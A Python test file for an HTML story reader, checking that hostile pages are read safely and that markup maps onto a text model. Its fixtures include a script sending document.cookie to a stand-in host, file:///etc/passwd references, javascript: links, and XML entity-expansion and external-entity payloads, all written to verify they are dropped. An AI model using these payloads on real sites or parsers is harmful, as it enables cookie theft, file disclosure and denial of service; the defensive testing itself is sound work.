"""Hostile and odd web pages: nothing in a page may run, fetch, expand or pass through
as markup; a page too deep to read whole is refused in one line; the core's mapping
of HTML onto the model, case by case. Every input here is written for the test."""

from __future__ import annotations

import socket
from pathlib import Path

import pytest

from ficbind.errors import InputError
from ficbind.model import (
    BlockQuote,
    Emphasis,
    Heading,
    ItemList,
    LineBreak,
    Paragraph,
    SceneBreak,
    Strong,
    Text,
    blocks_text,
    inline_text,
)
from ficbind.readers import DEFAULT_MAX_BYTES, load_story_bytes, parse_story, read_story
from ficbind.readers.html import blocks_from_html, parse_page

pytestmark = pytest.mark.quick


def _blocks(body: str, **kwargs) -> list:
    root = parse_page(f"<!DOCTYPE html><html><body>{body}</body></html>".encode(), "page.html")
    return blocks_from_html(root.find("body"), **kwargs)


def _story(tmp_path: Path, html: str, name: str = "page.html"):
    path = tmp_path / name
    path.write_text(html, encoding="utf-8")
    return read_story(path, name)


def _everything(story) -> str:
    meta = story.meta
    return "\n".join([blocks_text(story.blocks), blocks_text(meta.summary), blocks_text(meta.notes),
                      meta.title or "", *(f.value for f in meta.fields)])


@pytest.fixture
def no_network(monkeypatch):
    """Any attempt to open a connection fails the test."""
    def refuse(*args, **kwargs):
        raise AssertionError(f"a page tried to reach the network: {args}")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)


HOSTILE = """<!DOCTYPE html><html><head>
<base href="http://example.com/evil/">
<title>A Quiet Evening</title>
<script>document.location = "http://example.com/?c=" + document.cookie</script>
<style>@import url(http://example.com/evil.css); body { background: url(file:///etc/passwd) }</style>
<link rel="stylesheet" href="http://example.com/evil.css">
<meta http-equiv="refresh" content="0; url=http://example.com/">
</head>
<body onload="alert('load')">
<h1>A Quiet Evening</h1>
<p onclick="alert('click')">She closed the <a href="javascript:alert('link')">window</a> and sat down.</p>
<iframe src="http://example.com/frame"><p>frame fallback text</p></iframe>
<object data="http://example.com/x.swf"><param name="movie" value="x.swf">object fallback</object>
<embed src="http://example.com/x.swf">
<p>The kettle sang.<img src="http://example.com/tracker.png" alt="a steaming kettle"><img src="file:///etc/passwd"></p>
<svg><script>alert('svg')</script><text>svg text</text></svg>
<form action="http://example.com/"><input value="form value"><button>Send</button></form>
<noscript>Please turn on JavaScript.</noscript>
<p hidden>hidden paragraph</p><p style="display: none">invisible paragraph</p>
<p>Nothing else <span style="font-style:italic" onmouseover="alert(1)">happened</span>.</p>
</body></html>"""


def test_a_hostile_page_is_read_with_its_hostile_parts_dropped(tmp_path, no_network):
    story = _story(tmp_path, HOSTILE)
    text = _everything(story)
    assert story.meta.title == "A Quiet Evening"
    assert blocks_text(story.blocks) == ("She closed the window and sat down.\n\nThe kettle sang. a steaming kettle"
                                         "\n\nNothing else happened.")
    for gone in ("alert", "document.cookie", "example.com", "@import", "frame fallback", "object fallback",
                 "svg text", "form value", "Send", "JavaScript", "hidden paragraph", "invisible paragraph",
                 "passwd", "<", "javascript"):
        assert gone not in text, gone
    italic = story.blocks[-1].content
    assert any(isinstance(node, Emphasis) and inline_text(node.content) == "happened" for node in italic)


def test_entities_declared_in_a_page_are_never_expanded(tmp_path, no_network):
    laughs = ('<!DOCTYPE html [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
              '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">'
              '<!ENTITY ext SYSTEM "file:///etc/passwd"><!ENTITY net SYSTEM "http://example.com/x">]>'
              "<html><body><p>Laughter: &d;&d; and &ext; and &net;. Fish &amp; chips &eacute;t&eacute;.</p></body></html>")
    story = _story(tmp_path, laughs)
    text = blocks_text(story.blocks)
    assert "haha" not in text and "root:" not in text
    assert "Fish & chips été." in text  # HTML's own entities are characters, as in a browser


def test_an_xhtml_file_with_an_xml_declaration_and_a_dtd_reads(tmp_path, no_network):
    page = ('<?xml version="1.0" encoding="utf-8"?>\n<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.1//EN" '
            '"http://www.w3.org/TR/xhtml11/DTD/xhtml11.dtd">\n<html xmlns="http://www.w3.org/1999/xhtml">'
            "<head><title>Chapter One</title></head><body><p>It <em>was</em> raining.</p></body></html>")
    story = _story(tmp_path, page, "chapter.xhtml")
    assert blocks_text(story.blocks) == "It was raining."


def test_markup_nested_deeper_than_the_parser_reads_is_refused_in_one_line(tmp_path):
    deep = "<html><body>" + "<div>" * 300 + "deep" + "</div>" * 300 + "<p>after</p></body></html>"
    path = tmp_path / "deep.html"
    path.write_text(deep)
    with pytest.raises(InputError) as error:
        read_story(path, "deep.html")
    message = str(error.value)
    assert message.startswith("deep.html: the page nests its markup too deeply to read") and "\n" not in message


def test_nesting_within_the_limit_reads_every_word(tmp_path):
    nested = "<html><body>" + "<blockquote><span><em>" * 60 + "deep" + "</em></span></blockquote>" * 60
    story = _story(tmp_path, nested + "<p>after</p></body></html>")
    assert blocks_text(story.blocks).split() == ["deep", "after"]


def test_a_page_over_the_size_limit_is_refused_before_it_is_parsed(tmp_path):
    path = tmp_path / "huge.html"
    with path.open("wb") as out:
        out.write(b"<!DOCTYPE html><html><body>")
        out.write(b"<p>words words words</p>" * (DEFAULT_MAX_BYTES // 24 + 10))
    with pytest.raises(InputError, match="over the 32 MB limit"):
        load_story_bytes(path, "huge.html")


def test_a_web_page_is_told_from_its_bytes_whatever_its_name(tmp_path):
    page = b"<!-- saved from url=(0040)https://example.org/ -->\n<!DOCTYPE html><html><body><p>Rain.</p></body></html>"
    story = parse_story(page, Path("story.txt"), "story.txt")
    assert blocks_text(story.blocks) == "Rain."
    # and text that merely mentions tags is still text
    text = b"Title: Tags\n\nShe typed <b>bold</b> into the box.\n"
    assert "<b>bold</b>" in blocks_text(parse_story(text, Path("tags.txt"), "tags.txt").blocks)


# --- the core, case by case ------------------------------------------------------


def test_paragraphs_of_spans_and_a_sanitisers_line_breaks():
    blocks = _blocks("<p>\n  <span>I read the </span>\n  <em>\n    <span>Register</span>\n  </em>\n"
                     "  <span>’s review, and </span>\n  <em>sighed</em>\n  <span>.</span>\n</p>")
    assert [inline_text(b.content) for b in blocks] == ["I read the Register’s review, and sighed."]


def test_two_line_breaks_end_a_paragraph_and_one_is_kept():
    blocks = _blocks("Dear Ann,<br>I am well.<br><br>Yours,<br/>Bea<br><br><br>")
    assert blocks == [Paragraph([Text("Dear Ann,"), LineBreak(), Text("I am well.")]),
                      Paragraph([Text("Yours,"), LineBreak(), Text("Bea")])]


def test_an_emphasis_across_two_paragraphs_becomes_two():
    blocks = _blocks("<i>One.<br><br>Two.</i>")
    assert blocks == [Paragraph([Emphasis([Text("One.")])]), Paragraph([Emphasis([Text("Two.")])])]


def test_scene_breaks_from_rules_markers_and_rare_empty_paragraphs():
    prose = "".join(f"<p>Line {n}.</p>" for n in range(10))
    blocks = _blocks(f"<p>A.</p><hr><p>B.</p><p align='center'>* * *</p><p>C.</p><p>~~~</p><p>D.</p>"
                     f"<p>&nbsp;</p><p>E.</p>{prose}")
    kinds = [type(b).__name__ for b in blocks[:9]]
    assert kinds == ["Paragraph", "SceneBreak", "Paragraph", "SceneBreak", "Paragraph", "SceneBreak", "Paragraph",
                     "SceneBreak", "Paragraph"]


def test_empty_paragraphs_between_every_paragraph_are_spacing_not_breaks():
    blocks = _blocks("".join(f"<p>Line {n}.</p><p><br></p>" for n in range(12)))
    assert all(isinstance(b, Paragraph) for b in blocks) and len(blocks) == 12


def test_quotes_lists_tables_headings_and_styles():
    blocks = _blocks("<h2>Part One<br>Arrival</h2><blockquote><p>Dear Sir,</p><p>No.</p></blockquote>"
                     "<ol><li>eggs</li><li><p>milk</p></li></ol><table><tr><th>Ann</th><td>hi</td></tr></table>"
                     "<p><span style='font-weight: bold'>Loud</span> and <b>clear</b></p><dl><dt>Term</dt>"
                     "<dd>Meaning</dd></dl><p>a <q>quoted</q> word</p>")
    assert blocks[0] == Heading(2, [Text("Part One"), LineBreak(), Text("Arrival")])
    assert blocks[1] == BlockQuote([Paragraph([Text("Dear Sir,")]), Paragraph([Text("No.")])])
    assert blocks[2] == ItemList(True, [[Paragraph([Text("eggs")])], [Paragraph([Text("milk")])]])
    assert blocks[3] == Paragraph([Text("Ann — hi")])
    assert blocks[4] == Paragraph([Strong([Text("Loud")]), Text(" and "), Strong([Text("clear")])])
    assert blocks[5] == Paragraph([Strong([Text("Term")])]) and blocks[6] == Paragraph([Text("Meaning")])
    assert inline_text(blocks[7].content) == "a “quoted” word"


def test_a_picture_is_its_alt_text_or_what_the_caller_makes_of_it():
    assert _blocks("<p>A cat <img src='cat.png' alt='(a drawing of a cat)'> sat.</p>") == [
        Paragraph([Text("A cat (a drawing of a cat) sat.")])]
    seen = []

    def picture(src, alt):
        seen.append((src, alt))
        return SceneBreak()  # any block stands for the picture here

    blocks = _blocks("<p>Before <em>it <img src='art/cat.png' alt='cat'> after</em></p>", picture=picture)
    assert seen == [("art/cat.png", "cat")]
    assert blocks == [Paragraph([Text("Before "), Emphasis([Text("it")])]), SceneBreak(),
                      Paragraph([Emphasis([Text("after")])])]


def test_chinese_lines_join_without_spaces():
    blocks = _blocks("<p>他说\n好的。</p><p>第一<em>句</em>\n<span>。</span></p>")
    assert [inline_text(b.content) for b in blocks] == ["他说好的。", "第一句。"]


def test_a_page_wrapped_in_a_form_still_reads(tmp_path):
    story = _story(tmp_path, "<html><body><form id='aspnetForm'><input type='hidden' value='x'>"
                             "<div><p>Every word.</p></div></form></body></html>")
    assert blocks_text(story.blocks) == "Every word."
